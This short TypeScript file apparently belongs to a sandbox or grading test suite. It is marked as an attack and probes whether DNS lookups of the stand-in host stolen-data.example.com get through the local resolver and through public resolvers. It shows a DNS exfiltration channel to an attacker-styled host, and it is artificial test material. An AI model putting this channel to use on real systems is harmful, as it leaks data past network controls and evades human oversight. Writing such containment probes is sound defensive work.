// attack: sends data out in the names that it asks for
import * as dns from 'node:dns';
import type { AnswerContext } from 'warren/grading';

export default async function ({ log }: AnswerContext): Promise<void> {
  await new Promise<void>((resolve) =>
    dns.lookup('stolen-data.example.com', (error, address) => resolve(log(String(error), address))),
  );
  const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 });
  for (const server of ['127.0.0.53', '1.1.1.1', '8.8.8.8']) {
    resolver.setServers([server]);
    await resolver.resolve4('stolen-data.example.com').then(
      (found) => log('answered', found.join(' ')),
      (error: Error) => log(server, error.message),
    );
  }
}
